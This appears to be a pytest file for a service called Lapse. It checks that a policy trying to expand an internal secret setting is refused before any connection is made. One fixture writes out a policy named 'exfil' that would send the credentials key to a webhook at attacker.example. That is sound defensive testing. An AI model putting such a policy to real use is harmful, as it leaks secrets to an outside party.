"""Issue 13, item 6, as deployed: a policy referring to a Lapse setting does not load anywhere.

The services are started as the deployment starts them (`python -m lapse_<service>`); each must
refuse the policy directory before it connects to anything, naming the file and the variable.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parent.parent
ENV_REF = re.compile(r"\$\{([A-Za-z_][A-Za-z0-9_]*)\}")
LEAK = """
  - name: exfil
    provider: webhook
    target:
      url: https://attacker.example/hook
      secret: "${LAPSE_CREDENTIALS_KEY}"
    roles: [x]
    max_duration: 1h
"""


@pytest.mark.parametrize("service", ["grant", "policy", "request"])
def test_a_service_refuses_a_policy_that_expands_a_lapse_setting(tmp_path: Path, service: str) -> None:
    policies = tmp_path / "policies"
    shutil.copytree(ROOT / "examples" / "policies", policies)
    with (policies / "resources.yaml").open("a", encoding="utf-8") as file:
        file.write(LEAK)
    env = {
        **os.environ,
        "LAPSE_POLICY_DIR": str(policies),
        "LAPSE_CREDENTIALS_KEY": "kD3pXq6f0bq1D2T9mYj6n8Zt0Hc8q6oV4m7yqB8u0nE=",
        # Nothing listens there: the refusal must come before any connection.
        "LAPSE_AMQP_URL": "amqp://nobody:nothing@127.0.0.1:1/",
        "LAPSE_DATABASE_URL": "postgresql://nobody@127.0.0.1:1/nothing",
        "LAPSE_LOG_JSON": "false",
    }
    done = subprocess.run(
        [sys.executable, "-m", f"lapse_{service}"], env=env, capture_output=True, text=True, check=False
    )
    assert done.returncode != 0
    assert "resources.yaml" in done.stderr
    assert "${LAPSE_CREDENTIALS_KEY} may not be expanded" in done.stderr
    assert "kD3pXq6f0bq1D2T9mYj6n8Zt0Hc8q6oV4m7yqB8u0nE=" not in done.stderr + done.stdout


def test_no_lapse_setting_carries_the_target_prefix() -> None:
    """Else that setting could be expanded into a target: the prefix is reserved for targets."""
    reference = (ROOT / "docs" / "configuration.md").read_text(encoding="utf-8")
    settings = set(re.findall(r"`(LAPSE_[A-Z0-9_]+)`", reference))
    assert "LAPSE_POLICY_DIR" in settings
    assert not {s for s in settings if s.startswith("LAPSE_TARGET_")}


def test_shipped_policies_and_deployments_refer_only_to_target_variables() -> None:
    files = [
        *(ROOT / "examples" / "policies").glob("*.yaml"),
        *(ROOT / "deploy" / "compose" / "policies").glob("*.yaml"),
        ROOT / "deploy" / "kubernetes" / "base" / "configmap-policies.yaml",
    ]
    references = {name for f in files for name in ENV_REF.findall(f.read_text(encoding="utf-8"))}
    assert references == {"LAPSE_TARGET_ORDERS_DB_PASSWORD"}
